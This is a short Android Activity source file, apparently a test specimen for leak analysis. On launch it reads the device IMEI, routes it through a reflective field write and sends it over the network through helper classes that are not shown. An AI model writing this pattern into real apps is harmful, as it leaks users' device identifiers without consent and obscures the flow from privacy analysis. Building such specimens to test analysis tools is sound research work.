package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        try {
            Box box = new Box();
            Box.class.getField("one").set(box, Imei.read(this));
            Net.send(box.one);
        } catch (ReflectiveOperationException error) {
            finish();
        }
    }
}
